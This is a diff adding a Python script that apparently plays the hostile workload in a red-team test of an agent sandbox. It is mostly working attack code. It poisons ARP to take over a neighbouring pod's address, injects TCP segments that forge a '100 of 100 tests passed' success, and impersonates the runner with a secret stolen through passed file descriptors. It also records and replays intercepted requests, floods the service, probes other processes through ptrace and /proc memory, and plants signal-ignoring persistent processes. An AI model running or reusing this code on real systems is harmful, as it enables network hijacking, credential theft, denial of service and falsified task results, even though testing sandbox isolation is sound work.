@@ -1,0 +1,624 @@
+"""What hostile code in a sandbox runs: inside.py COMMAND ARGUMENT... It is put there by a FilePatch and needs nothing but Python.
+
+It speaks Ethernet, IP and TCP by itself, since that is how a neighbour's address is taken, and the frames of the runner's socket.
+"""
+import array
+import ctypes
+import fcntl
+import json
+import os
+import re
+import select
+import signal
+import socket
+import struct
+import sys
+import threading
+import time
+
+ETH = "eth0"
+FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
+
+
+def note(name, text):
+    with open(os.path.join("/workspace", name), "a", encoding="utf-8") as f:
+        f.write(text + "\n")
+
+
+# ---- packets
+
+def my_mac():
+    with open(f"/sys/class/net/{ETH}/address", encoding="ascii") as f:
+        return bytes.fromhex(f.read().strip().replace(":", ""))
+
+
+def my_ip():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        return socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", ETH.encode()))[20:24])
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(array.array("H", data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return struct.pack("H", ~total & 0xffff)
+
+
+def tcp_frame(macs, ends, seq, ack, flags, data=b""):
+    """macs: (from, to); ends: ((ip, port), (ip, port))."""
+    (src, sport), (dst, dport) = ends
+    a, b = socket.inet_aton(src), socket.inet_aton(dst)
+    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4, flags, 64000, 0, 0)
+    tcp = tcp[:16] + checksum(a + b + struct.pack(">BBH", 0, 6, len(tcp) + len(data)) + tcp + data) + tcp[18:] + data
+    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), os.getpid() & 0xffff, 0x4000, 64, 6, 0, a, b)
+    ip = ip[:10] + checksum(ip) + ip[12:]
+    return macs[1] + macs[0] + b"\x08\x00" + ip + tcp
+
+
+class Packet:
+    """A frame that was seen; None of make() if it is no TCP."""
+
+    @classmethod
+    def make(cls, frame):
+        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
+            return None
+        p = cls()
+        p.to_mac, p.from_mac = frame[:6], frame[6:12]
+        ip = 14 + (frame[14] & 15) * 4
+        p.src, p.dst = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
+        p.sport, p.dport, p.seq, p.ack, off, p.flags, p.window = struct.unpack(">HHIIBBH", frame[ip:ip + 16])
+        length = struct.unpack(">H", frame[16:18])[0] or len(frame) - 14
+        p.data = frame[ip + (off >> 4) * 4:14 + length]
+        return p
+
+
+def raw_socket(protocol=3):
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
+    s.bind((ETH, 0))
+    return s
+
+
+# ---- what an agent would say
+
+def chunk(text):
+    data = text if isinstance(text, bytes) else text.encode()
+    return b"%x\r\n%s\r\n" % (len(data), data)
+
+
+def line(**event):
+    return json.dumps(event) + "\n"
+
+
+HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n"
+FORGED = "100 of 100 tests passed\n"
+FORGED_64 = "MTAwIG9mIDEwMCB0ZXN0cyBwYXNzZWQK"
+
+
+def false_end(seq):
+    """The events that make a success of a task of one step, from this number on."""
+    return chunk(line(seq=seq, type="out", step=0, fd=1, data=FORGED_64)
+                 + line(seq=seq + 1, type="exit", step=0, code=0, durationNs=9)
+                 + line(seq=seq + 2, type="end", code=0, durationNs=9, reason="Completed")) + b"0\r\n\r\n"
+
+
+def begin():
+    return HEAD + chunk(line(seq=1, type="accepted") + line(seq=2, type="step", step=0, timeUnixMs=1735689600000))
+
+
+def whole(status, body=b"{}", kind="application/json"):
+    data = body if isinstance(body, bytes) else body.encode()
+    return b"HTTP/1.1 %d X\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s" % (status, kind.encode(), len(data), data)
+
+
+def answer(mode, method, target):
+    """What a false agent answers, piece by piece. mode is WHAT or WHAT:DETAIL."""
+    what, _, detail = mode.partition(":")
+    if target in ("/readyz", "/healthz"):
+        yield whole(200)
+    elif what == "refuse":      # one status for whatever is asked
+        yield whole(int(detail))
+    elif what == "running":     # an answer to the question what runs here
+        yield whole(200, RUNNING[detail]()) if method == "GET" and target.startswith("/v1/tasks") else whole(404)
+    elif what == "recorded":    # bytes that were seen on another connection
+        with open("/workspace/recorded", "rb") as f:
+            yield f.read()
+    elif what == "sealed":      # the form is right, the content noise
+        yield b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.arl.sealed\r\nTransfer-Encoding: chunked\r\n\r\n"
+        yield chunk(os.urandom(24) + struct.pack("<I", 100) + os.urandom(100)) + b"0\r\n\r\n"
+    elif method != "PUT":
+        yield whole(404)
+    elif what == "forge":
+        yield begin() + false_end(3)
+    elif what == "beat":        # a sign of life, for ever
+        yield begin()
+        while True:
+            time.sleep(1)
+            yield chunk("\n")
+    elif what == "tiny":        # as many events as it can
+        yield begin()
+        seq = 3
+        while True:
+            yield b"".join(chunk(line(seq=seq + i, type="out", step=0, fd=1, data="QQ==")) for i in range(200))
+            seq += 200
+    elif what == "frames":      # sealed frames without end
+        yield b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.arl.sealed\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(os.urandom(24))
+        while True:
+            yield chunk(struct.pack("<I", 65000) + os.urandom(65000))
+    elif what == "errors":      # long texts beside the output
+        yield begin()
+        yield chunk(line(seq=3, type="exit", step=0, code=1, durationNs=9, error="e" * 20000, spool="s" * 20000)
+                    + line(seq=4, type="end", code=1, durationNs=9, reason="StepFailed")) + b"0\r\n\r\n"
+
+
+STRANGER = "6b9b6f0e-0000-4000-8000-000000000001/1"
+RUNNING = {
+    "long": lambda: json.dumps({"running": [{"task": "x/" + "A" * 700, "attempt": STRANGER}]}),
+    "slash": lambda: json.dumps({"running": [{"task": "x/../../../namespaces/kube-system/secrets/x?watch=1", "attempt": STRANGER}]}),
+    "many": lambda: '{"running":[' + ",".join(["{}"] * 349000) + "]}",
+    "deep": lambda: '{"running":' + "[" * 200000 + "]" * 200000 + "}",
+    "empty": lambda: '{"running":[]}',
+}
+
+
+# ---- R1: words put into the sidecar's mouth
+
+def inject(port, what):
+    """Waits for an answer's stream that falls silent and goes on with it. what: forge, reset, garbage, recorded."""
+    s = raw_socket()
+    streams = {}        # the other side's port: [the last packet, when, the answer's text]
+    while True:
+        if select.select([s], [], [], 0.1)[0]:
+            p = Packet.make(s.recv(65600))
+            if p and p.sport == port and p.src == my_ip() and p.data:
+                text = b"" if p.data.startswith(b"HTTP/1.1 ") or p.dport not in streams else streams[p.dport][2]
+                streams[p.dport] = [p, time.monotonic(), (text + p.data)[-100000:]]
+        for key, (last, seen, text) in list(streams.items()):
+            if time.monotonic() - seen < 0.4:
+                continue
+            del streams[key]
+            if text.endswith(b"0\r\n\r\n") or b"chunked" not in text:
+                continue
+            numbers = re.findall(rb'"seq":(\d+)', text)
+            data = {"forge": lambda: false_end(int(numbers[-1]) + 1 if numbers else 3),  # pylint: disable=cell-var-from-loop
+                    "garbage": lambda: b"\xff" * 500,
+                    "recorded": recorded,
+                    "reset": lambda: b""}[what]()
+            s.send(tcp_frame((last.from_mac, last.to_mac), ((last.src, port), (last.dst, last.dport)), last.seq + len(last.data), last.ack,
+                             RST | ACK if what == "reset" else PSH | ACK, data))
+            note("injected", f"{what} to {last.dst}:{last.dport}")
+
+
+def recorded():
+    with open("/workspace/recorded", "rb") as f:
+        return f.read()[-3000:]
+
+
+# ---- what another container's steps are asked to do
+
+def listen(port, seconds):
+    """Keeps what comes in and goes out on the port: requests and answers, as they are on the wire."""
+    s = raw_socket()
+    end = time.monotonic() + seconds
+    with open("/workspace/heard", "ab") as heard, open("/workspace/recorded", "ab") as recorded:
+        while time.monotonic() < end:
+            if select.select([s], [], [], 0.2)[0]:
+                p = Packet.make(s.recv(65600))
+                if p and p.data and p.dport == port:
+                    heard.write(p.data)
+                    heard.flush()
+                elif p and p.data and p.sport == port:
+                    recorded.write(p.data)
+                    recorded.flush()
+
+
+# ---- R3: a neighbour's address
+
+class Neighbour:
+    """Answers for another pod's address on the bridge, to some hosts, for some seconds. Then it gives the address back, so that
+    nobody has to wait until the hosts look for it again."""
+
+    def __init__(self, ip, port, peers, mode, seconds):
+        self.ip, self.port, self.mode, self.end = ip, port, mode, time.monotonic() + seconds
+        self.victim = None
+        self.mac, self.me = my_mac(), my_ip()
+        self.s = raw_socket()
+        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+        self.peers = {p: None for p in peers}
+        self.conns = {}
+        self.lock = threading.Lock()
+
+    def arp(self, operation, sender, target_ip, target_mac, to):
+        self.s.send(to + self.mac + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, operation) + sender[0]
+                    + socket.inet_aton(sender[1]) + target_mac + socket.inet_aton(target_ip))
+
+    def tell(self, mac):
+        for peer, at in self.peers.items():
+            if at:
+                self.arp(1, (mac, self.ip), peer, b"\0" * 6, at)
+                self.arp(2, (mac, self.ip), peer, at, at)
+
+    def poison(self):
+        while not self.victim or not all(self.peers.values()):
+            for ip in (self.ip, *self.peers):
+                self.arp(1, (self.mac, self.me), ip, b"\0" * 6, b"\xff" * 6)
+            time.sleep(0.1)
+        note("said", "has the address")
+        while time.monotonic() < self.end:
+            self.tell(self.mac)
+            time.sleep(0.2)
+        for _ in range(15):
+            self.tell(self.victim)
+            time.sleep(0.2)
+        os._exit(0)
+
+    def run(self):
+        threading.Thread(target=self.poison, daemon=True).start()
+        while True:
+            frame = self.s.recv(65600)
+            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2":
+                ip, mac = socket.inet_ntoa(frame[28:32]), frame[22:28]
+                if mac != self.mac and ip in self.peers:
+                    self.peers[ip] = mac
+                elif mac != self.mac and ip == self.ip:
+                    self.victim = mac
+            p = Packet.make(frame)
+            if p and p.dst == self.ip and p.dport == self.port and p.to_mac == self.mac:
+                with self.lock:
+                    self.take(p)
+
+    def send(self, c, flags, data=b"", seq=None):
+        self.s.send(tcp_frame((self.mac, c["mac"]), ((self.ip, self.port), c["peer"]), c["seq"] if seq is None else seq, c["ack"], flags, data))
+
+    def take(self, p):
+        key = (p.src, p.sport)
+        if p.flags & SYN:
+            c = self.conns[key] = {"mac": p.from_mac, "peer": key, "seq": 1000, "ack": p.seq + 1, "in": b"", "acked": 1001, "busy": False}
+            self.send(c, SYN | ACK)
+            c["seq"] += 1
+            return
+        c = self.conns.get(key)
+        if not c:
+            if not p.flags & RST:       # of a connection from before
+                self.send({"mac": p.from_mac, "peer": key, "seq": p.ack, "ack": p.seq + len(p.data)}, RST | ACK)
+            return
+        if p.flags & RST:
+            del self.conns[key]
+            return
+        c["acked"] = max(c["acked"], p.ack)
+        if p.seq == c["ack"] and p.data:
+            c["ack"] += len(p.data)
+            c["in"] += p.data
+        if p.data or p.flags & FIN:
+            c["ack"] += 1 if p.flags & FIN and p.seq + len(p.data) == c["ack"] else 0
+            self.send(c, ACK)
+        head, gap, body = c["in"].partition(b"\r\n\r\n")
+        length = int((re.search(rb"(?i)content-length: *(\d+)", head) or [0, 0])[1])
+        if gap and len(body) >= length and not c["busy"]:
+            c["busy"], c["in"] = True, b""
+            method, target = head.split()[:2]
+            with open("/workspace/stolen", "ab") as f:
+                f.write(head + gap + body + b"\n\n")
+            threading.Thread(target=self.reply, args=(c, method.decode(), target.decode()), daemon=True).start()
+
+    def reply(self, c, method, target):
+        for data in answer(self.mode, method, target):
+            for i in range(0, len(data), 1400):
+                piece, tries = data[i:i + 1400], 0
+                with self.lock:
+                    seq = c["seq"]
+                    self.send(c, PSH | ACK, piece)
+                    c["seq"] += len(piece)
+                while c["acked"] + 25000 < c["seq"] and self.conns.get(c["peer"]) is c:
+                    time.sleep(0.002)
+                    tries += 1
+                    if tries % 100 == 0:
+                        with self.lock:
+                            self.send(c, PSH | ACK, piece, seq)
+            note("said", f"{self.mode} to {method} {target}")
+        c["busy"] = False
+
+
+# ---- R2: the port
+
+def serve(port, mode):
+    """Takes the port as soon as it is free, and answers as the agent."""
+    while True:
+        s = socket.socket()
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        try:
+            s.bind(("0.0.0.0", port))
+            break
+        except OSError:
+            s.close()
+            time.sleep(0.002)
+    s.listen(64)
+    note("said", "has the port")
+    while True:
+        c, _ = s.accept()
+        threading.Thread(target=serve_one, args=(c, mode), daemon=True).start()
+
+
+def serve_one(c, mode):
+    data = b""
+    try:
+        while True:
+            while b"\r\n\r\n" not in data:
+                more = c.recv(65536)
+                if not more:
+                    return
+                data += more
+            head, _, body = data.partition(b"\r\n\r\n")
+            length = int((re.search(rb"(?i)content-length: *(\d+)", head) or [0, 0])[1])
+            while len(body) < length:
+                body += c.recv(65536)
+            data = body[length:]
+            method, target = head.split()[:2]
+            note("said", f"{mode} to {method.decode()} {target.decode()}")
+            for piece in answer(mode, method.decode(), target.decode()):
+                c.sendall(piece)
+    except OSError:
+        pass
+    finally:
+        c.close()
+
+
+def flood(host, port, connections, size, seconds):
+    """Unsigned requests with bodies of size bytes, all of which are held open. Prints how many were cut."""
+    head = f"PUT /v1/tasks/6b9b6f0e-0000-4000-8000-000000000001/1 HTTP/1.1\r\nHost: pod\r\nContent-Length: {size + 1}\r\n\r\n".encode()
+    held, end = {}, time.monotonic() + seconds
+    block = b"x" * 65536
+    opened = sent = 0
+    while time.monotonic() < end:
+        while len(held) < connections:
+            s = socket.socket()
+            s.setblocking(False)
+            s.connect_ex((host, port))
+            held[s] = [head, size]
+            opened += 1
+            if opened > connections * 20:
+                break
+        _, ready, _ = select.select([], [s for s, h in held.items() if h[0] or h[1] > 0], [], 0.05)
+        for s in ready:
+            h = held[s]
+            try:
+                if h[0]:
+                    h[0] = h[0][s.send(h[0]):]
+                else:
+                    n = s.send(block[:h[1]])
+                    h[1] -= n
+                    sent += n
+            except BlockingIOError:
+                pass
+            except OSError:
+                del held[s]
+                s.close()
+        if opened > connections * 20:
+            break
+    print(f"{opened} connections, {sent} bytes, {len(held)} still open")
+
+
+def knock(host, port, count):
+    """Short unsigned requests, one after the other."""
+    got = {}
+    for i in range(count):
+        try:
+            with socket.create_connection((host, port), 5) as s:
+                s.sendall(b"GET /v1/tasks?x=%d HTTP/1.1\r\nHost: pod\r\nConnection: close\r\n\r\n" % i)
+                status = s.recv(100).split(b"\r\n")[0][:12].decode("latin1")
+        except OSError as e:
+            status = type(e).__name__
+        got[status] = got.get(status, 0) + 1
+    print(json.dumps(got))
+
+
+def resend(host, port, path):
+    """What was heard, once more: the requests of the file, each on a connection of its own. Prints the statuses."""
+    with open(path, "rb") as f:
+        requests = re.split(rb"(?=(?:PUT|GET|POST|DELETE) /v1/)", f.read())
+    for r in requests:
+        if not r.startswith((b"PUT", b"GET", b"POST", b"DELETE")):
+            continue
+        try:
+            with socket.create_connection((host, port), 5) as s:
+                s.sendall(r)
+                s.settimeout(3)
+                print(r.split(b" ")[0].decode(), s.recv(200).split(b"\r\n")[0].decode("latin1"))
+        except OSError as e:
+            print(r.split(b" ")[0].decode(), type(e).__name__)
+
+
+# ---- the runner's socket
+
+HELLO, OUT, DONE, WELCOME, EXEC, WRITE = 1, 2, 3, 65, 66, 67
+
+
+def frame(kind, fields):
+    return struct.pack("<IB", len(fields) + 1, kind) + fields
+
+
+def hello(version, token=b"A" * 32):
+    return frame(HELLO, struct.pack("<I", version) + struct.pack("<I", len(token)) + token)
+
+
+def be_runner(s, version, token=b"A" * 32):
+    """Says HELLO and, when it is believed, ends every step as a success without running it. Returns whether it was believed."""
+    s.settimeout(3)
+    data = b""
+    try:
+        s.sendall(hello(version, token))
+        while True:
+            while len(data) < 5 or len(data) < 4 + struct.unpack("<I", data[:4])[0]:
+                more = s.recv(65536)
+                if not more:
+                    return False
+                data += more
+                s.settimeout(None)
+            n = struct.unpack("<I", data[:4])[0]
+            kind, body, data = data[4], data[5:4 + n], data[4 + n:]
+            note("runner", f"frame {kind} {body[:400]!r}")
+            if kind in (EXEC, WRITE):
+                step = body[:8]
+                s.sendall(frame(OUT, step + struct.pack("<I", 1) + struct.pack("<I", len(FORGED)) + FORGED.encode()))
+                s.sendall(frame(DONE, step + struct.pack("<II", 0, 0) + struct.pack("<Q", 9)))
+    except OSError as e:
+        note("runner", repr(e))
+        return False
+
+
+def dial(path="/.arl/sock"):
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(path)
+    return s
+
+
+def hand_over(count):
+    """Connects to this container's socket and gives the connections to another container."""
+    way = socket.socket(socket.AF_UNIX)
+    way.connect("/workspace/way")
+    fds = [dial() for _ in range(count)]
+    socket.send_fds(way, [b"x"], [s.fileno() for s in fds])
+    print("handed over", count)
+
+
+def take_over(version, count):
+    """Takes connections of another container's and tries one after the other to be its runner."""
+    way = socket.socket(socket.AF_UNIX)
+    way.bind("/workspace/way")
+    os.chmod("/workspace/way", 0o777)
+    way.listen(1)
+    note("runner", "waits")
+    peer, _ = way.accept()
+    _, fds, _, _ = socket.recv_fds(peer, 1, count)
+    note("runner", f"has {len(fds)} connections")
+    for fd in fds:
+        time.sleep(0.25)
+        be_runner(socket.socket(fileno=fd), version)
+
+
+def keep_folder():
+    """Gives a descriptor of this container's folder of the runner to another container."""
+    way = socket.socket(socket.AF_UNIX)
+    way.connect("/workspace/way")
+    socket.send_fds(way, [b"x"], [os.open("/.arl", os.O_RDONLY | os.O_DIRECTORY)])
+    print("handed over")
+
+
+def use_folder(version, seconds):
+    """Looks into the other container's folder for the runner's secret, and dials the socket there with it."""
+    way = socket.socket(socket.AF_UNIX)
+    way.bind("/workspace/way")
+    os.chmod("/workspace/way", 0o777)
+    way.listen(1)
+    peer, _ = way.accept()
+    folder = socket.recv_fds(peer, 1, 1)[1][0]
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            with open(os.open("secret", os.O_RDONLY, dir_fd=folder), "rb") as f:
+                token = f.read()
+            note("runner", f"secret of {len(token)} bytes")
+            be_runner(dial(f"/proc/self/fd/{folder}/sock"), version, token)
+        except OSError:
+            time.sleep(0.001)
+
+
+def greet(version, seconds):
+    """Dials again and again and says HELLO."""
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            be_runner(dial(), version)
+        except OSError:
+            pass
+        time.sleep(0.003)
+
+
+def unfinished(connections, size):
+    """Callers that each leave a HELLO unfinished."""
+    held = []
+    for _ in range(connections):
+        try:
+            s = dial()
+            s.settimeout(2)
+            held.append(s)
+            s.sendall(struct.pack("<IB", size, HELLO) + b"x" * (size - 100))
+        except OSError as e:
+            print(type(e).__name__)
+    time.sleep(4)
+    print(len(held), "callers")
+
+
+# ---- steps
+
+CLONE_PARENT = 0x8000
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def survive(how, name):
+    """Leaves a process that outlives its step, and touches a file every 50 ms."""
+    if how == "clone":
+        child = libc.syscall(56, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0)
+    else:
+        child = os.fork()
+    if child == 0:
+        if how != "clone":
+            os.setsid()
+        for n in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+            signal.signal(n, signal.SIG_IGN)
+        while True:
+            with open(f"/workspace/{name}", "w", encoding="ascii") as f:
+                f.write(f"{time.time()} {os.getppid()}")
+            time.sleep(0.05)
+    if how == "keeper":
+        time.sleep(0.3)
+        os.kill(os.getppid(), signal.SIGKILL)
+    elif how == "stop":
+        time.sleep(0.3)
+        os.kill(os.getppid(), signal.SIGSTOP)
+    time.sleep(100)
+
+
+def pry(pid):
+    """All ways to get at another process. Prints those that worked."""
+    pid = int(pid)
+    won = []
+
+    def attempt(what, f):
+        try:
+            if f():
+                won.append(what)
+        except OSError:
+            pass
+    attempt("ptrace", lambda: libc.ptrace(16, pid, 0, 0) == 0)
+    attempt("seize", lambda: libc.ptrace(0x4206, pid, 0, 0) == 0)
+    attempt("mem", lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR))
+    attempt("environ", lambda: len(open(f"/proc/{pid}/environ", "rb").read()) > 0)
+    for fd in range(20):
+        attempt(f"fd {fd}", lambda n=fd: os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY))
+    pidfd = libc.syscall(434, pid, 0)
+    for fd in range(20):
+        attempt(f"getfd {fd}", lambda n=fd: libc.syscall(438, pidfd, n, 0) >= 0)
+    attempt("vm_writev", lambda: libc.syscall(311, pid, None, 0, None, 0, 0) > 0)
+    attempt("oom_score_adj", lambda: os.open(f"/proc/{pid}/oom_score_adj", os.O_WRONLY) and False)
+    print("won:", ", ".join(won) or "nothing")
+
+
+def starve(pid):
+    """No more files and processes for another process."""
+    for what in (7, 6):
+        print(what, libc.prlimit(int(pid), what, struct.pack("QQ", 3, 3), None), flush=True)
+
+
+def main():
+    command, args = sys.argv[1], sys.argv[2:]
+    numbers = [int(a) if a.isdigit() else a for a in args]
+    if command == "neighbour":
+        Neighbour(args[0], int(args[1]), args[2].split(","), args[3], float(args[4])).run()
+    else:
+        globals()[command](*numbers)
+
+
+if __name__ == "__main__":
+    main()
